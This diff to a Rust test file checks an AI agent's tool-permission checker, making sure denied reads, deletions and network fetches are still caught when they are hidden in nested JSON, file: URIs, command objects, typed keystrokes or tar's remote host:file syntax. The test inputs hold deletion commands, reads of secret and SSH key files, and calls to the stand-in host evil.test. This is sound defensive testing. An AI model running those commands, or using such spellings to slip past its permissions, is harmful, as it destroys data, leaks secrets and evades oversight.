@@ -275,3 +275,130 @@ fn a_copy_that_leaves_the_denied_files_out_is_not_refused() {
         case(FILES, B, "tar -czf {root}/x.tgz .", Deny),
     ]);
 }
+
+const MCP: &[&str] = &[
+    "allow mcp__rt",
+    "deny Read(./secrets/**)",
+    "deny Edit(./docs/**)",
+    "deny WebFetch(domain:evil.test)",
+    "deny Bash(rm *)",
+];
+
+/// What an MCP input says inside a JSON string, a relative `file:` URI,
+/// a command given as `{name, args}` or typed into a process, and a tar
+/// archive on another host (round 11, tools).
+#[test]
+fn an_mcp_input_is_read_through_its_strings_and_its_spellings() {
+    run(&[
+        // JSON given as a string.
+        case(
+            MCP,
+            "mcp__rt__query_config",
+            r#"{"config": "{\"path\": \"secrets/key.txt\"}"}"#,
+            Deny,
+        ),
+        case(
+            MCP,
+            "mcp__rt__http_request",
+            r#"{"request": "{\"url\": \"http://evil.test/j\"}"}"#,
+            Deny,
+        ),
+        case(
+            MCP,
+            "mcp__rt__query_config",
+            r#"{"config": "{\"command\": \"rm -f docs/guide.md\"}"}"#,
+            Deny,
+        ),
+        case(
+            MCP,
+            "mcp__rt__query_config",
+            r#"{"config": "{\"path\": \"src/main.rs\"}"}"#,
+            Allow,
+        ),
+        // A relative file: URI is read as the server reads it.
+        case(
+            MCP,
+            "mcp__rt__read_resource",
+            r#"{"uri": "file:secrets/key.txt"}"#,
+            Deny,
+        ),
+        case(
+            MCP,
+            "mcp__rt__read_resource",
+            r#"{"uri": "file:./secrets/key.txt"}"#,
+            Deny,
+        ),
+        case(
+            MCP,
+            "mcp__rt__read_resource",
+            r#"{"uri": "file:src/main.rs"}"#,
+            Allow,
+        ),
+        // A command as an object, and keys that name a command's text.
+        case(
+            MCP,
+            "mcp__rt__run",
+            r#"{"command": {"name": "rm", "args": ["-f", "docs/guide.md"]}}"#,
+            Deny,
+        ),
+        case(
+            MCP,
+            "mcp__rt__run",
+            r#"{"commandText": "rm -rf docs"}"#,
+            Deny,
+        ),
+        case(
+            MCP,
+            "mcp__rt__run",
+            r#"{"command_string": "rm -rf docs"}"#,
+            Deny,
+        ),
+        // Typed into a running process or terminal.
+        case(
+            MCP,
+            "mcp__rt__interact_with_process",
+            r#"{"pid": 1, "input": "rm -f docs/guide.md"}"#,
+            Deny,
+        ),
+        case(
+            MCP,
+            "mcp__rt__send_keys",
+            r#"{"session": "s", "keys": "cat secrets/key.txt\n"}"#,
+            Deny,
+        ),
+        case(
+            MCP,
+            "mcp__rt__interact_with_process",
+            r#"{"pid": 1, "input": "ls -la"}"#,
+            Allow,
+        ),
+        // Text that starts with a path and goes on is text.
+        case(
+            &["allow mcp__rt", "deny Read(~/.ssh/**)"],
+            "mcp__rt__create_issue",
+            r#"{"title": "~/.ssh/config is ignored", "body": "x"}"#,
+            Allow,
+        ),
+        case(
+            &["allow mcp__rt", "deny Read(~/.ssh/**)"],
+            "mcp__rt__read",
+            r#"{"what": "~/.ssh/id_rsa"}"#,
+            Deny,
+        ),
+    ]);
+}
+
+/// GNU tar's `host:file` archive runs a remote shell to the host.
+#[test]
+fn a_tar_archive_on_another_host_reaches_it() {
+    const NET: &[&str] = &["allow Bash", "deny WebFetch(domain:evil.test)"];
+    run(&[
+        case(NET, B, "tar -tvf evil.test:foo.tar", Deny),
+        case(NET, B, "tar --file=user@evil.test:x.tar -c src", Deny),
+        case(NET, B, "tar tvf evil.test:foo.tar", Deny),
+        case(NET, B, "cpio -i -F evil.test:x.cpio", Deny),
+        case(NET, B, "tar --force-local -tvf evil.test:foo.tar", Allow),
+        case(NET, B, "tar -tvf ./a:b.tar", Allow),
+        case(NET, B, "tar -tzf out/x.tgz", Allow),
+    ]);
+}
